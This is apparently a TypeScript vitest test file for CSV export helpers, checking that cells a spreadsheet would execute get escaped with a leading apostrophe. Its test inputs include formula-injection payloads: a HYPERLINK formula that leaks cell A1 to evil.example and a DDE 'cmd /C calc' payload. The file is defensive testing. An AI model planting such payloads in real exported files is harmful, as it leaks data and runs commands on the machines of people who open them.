import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv, toMachineCsv } from './csv.ts';

/** What a spreadsheet reads back from the file: each cell's text. */
const read = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe('toMachineCsv', () => {
	it('writes rows only, quoting what needs it and leaving every cell as it is', () => {
		expect(
			toMachineCsv([
				['1', '-5 Main Street, Suite "B"', 'Cedarbrook', 'IA', '52901'],
				['2', '=1+1', '', 'IA', 52902],
			]),
		).toBe('1,"-5 Main Street, Suite ""B""",Cedarbrook,IA,52901\n2,=1+1,,IA,52902');
	});
});

describe('toCsv', () => {
	it.each([
		['=HYPERLINK("http://evil.example/?"&A1,"Open report")'],
		['+1+cmd|" /C calc"!A0'],
		['-2+3'],
		['@SUM(1,2)'],
		['\t=1+1'],
		['\r=1+1'],
		['=1+1\nsecond line'],
	])('escapes a text cell a spreadsheet would run: %j', (cell) => {
		const [, row] = read(toCsv(['Searched for', 'Views'], [[cell, 3]]));
		expect(row).toEqual([`'${cell}`, '3']);
	});

	it('leaves other text and numbers as they are, quoting what needs quoting', () => {
		const csv = toCsv(
			['Business', 'Shown'],
			[
				['Smith & Sons, LLC', 12],
				['The "Best" Diner', -3],
				['a = b', 0],
			],
		);
		expect(read(csv)).toEqual([
			['Business', 'Shown'],
			['Smith & Sons, LLC', '12'],
			['The "Best" Diner', '-3'],
			['a = b', '0'],
		]);
		expect(csv.split('\r\n')[2]).toBe('"The ""Best"" Diner",-3');
	});
});
